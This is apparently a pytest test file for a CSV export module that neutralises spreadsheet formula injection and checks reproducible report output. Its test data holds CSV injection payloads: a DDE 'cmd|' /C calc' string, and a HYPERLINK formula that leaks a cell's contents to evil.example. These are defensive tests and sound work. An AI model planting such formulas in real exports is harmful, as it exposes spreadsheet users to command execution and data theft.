"""CSV that a spreadsheet shows as text, never runs; stable and reproducible."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from conftest import FIXTURES, run

from ingest.export import neutralise, text, write_csv


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-1e5", "-1e5"),
        ("plain", "plain"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_neutralise(cell, expected):
    assert neutralise(cell) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (True, "true"),
        (datetime(2022, 2, 15, 13, tzinfo=UTC), "2022-02-15T13:00:00Z"),
        (date(2022, 2, 15), "2022-02-15"),
        (["UKR", "RUS"], "UKR;RUS"),
        (-1.5, "-1.5"),
        (Decimal("2.50"), "2.50"),
        ({"b": 1, "a": 2}, '{"a": 2, "b": 1}'),
    ],
)
def test_text(value, expected):
    assert text(value) == expected


def test_csv_keeps_numbers_and_neutralises_text_and_header():
    buffer = io.StringIO()
    write_csv(buffer, ["=cmd", "n"], [("-3", -3), ("=1+1", 2.5)])
    assert buffer.getvalue() == "'=cmd,n\r\n-3,-3\r\n'=1+1,2.5\r\n"
    raw = io.StringIO()
    write_csv(raw, ["=cmd"], [("=1+1",)], raw=True)
    assert raw.getvalue() == "=cmd\r\n=1+1\r\n"


def test_a_hyperlink_description_exports_as_text(tmp_path):
    good = (FIXTURES / "incidents_csv" / "good" / "ukraine-2022.csv").read_text("utf-8").splitlines()
    path = tmp_path / "evil.csv"
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
    path.write_text(
        f'{good[0]}\nevil-1,Phishing lure,"{evil.replace(chr(34), chr(34) * 2)}",'
        "phishing,2022-02-15,,,reported,,,,,,,,,,\n",
        "utf-8",
    )
    db = tmp_path / "s.duckdb"
    assert run("ingest", path, "--db", db).code == 0
    out = run("query", "SELECT source_ref, description FROM incidents", "--format", "csv", "--db", db).out
    assert list(csv.reader(io.StringIO(out))) == [["source_ref", "description"], ["evil-1", "'" + evil]]
    raw = run("query", "SELECT description FROM incidents", "--format", "csv", "--raw", "--db", db).out
    assert list(csv.reader(io.StringIO(raw)))[1] == [evil]


def test_report_csv_is_reproducible(loaded, tmp_path):
    first, second = tmp_path / "a.csv", tmp_path / "b.csv"
    for out in (first, second):
        assert run("report", "run", "incidents_near_events", "--out", out, "--db", loaded).code == 0
    assert first.read_bytes() == second.read_bytes()
    assert first.read_bytes().startswith(b"incident_at,incident,event_at,event,lag_hours,within,")
    assert not list(tmp_path.glob(".*.part")), "no temporary file is left behind"
